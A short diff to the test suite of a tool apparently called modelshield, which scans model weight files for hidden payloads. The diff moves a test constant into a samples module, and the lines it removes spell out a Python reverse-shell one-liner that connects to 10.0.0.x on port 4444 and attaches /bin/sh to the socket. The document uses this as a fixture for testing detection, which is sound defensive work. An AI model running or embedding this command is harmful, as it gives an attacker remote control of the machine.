@@ -11,17 +11,10 @@ import numpy as np
 import pytest
 from safetensors.numpy import save_file
 from tests.samples.safetensors_samples import elf_bytes
-from tests.samples.weight_samples import embed_low_byte, normal_weights, onnx_model
+from tests.samples.weight_samples import SCRIPT, embed_low_byte, normal_weights, onnx_model
 
 import modelshield
 from modelshield.analysis.weight_stats import analyse_tensor
-
-SCRIPT = b"".join(
-    f"import socket,subprocess;s=socket.socket();s.connect(('10.0.0.{i % 250}',4444));"
-    f"subprocess.call(['/bin/sh','-i'],stdin=s.fileno())\n".encode()
-    for i in range(400)
-)
-"""Text with no signature a scanner knows: only the statistics can see it."""
 
 
 class _Marker:
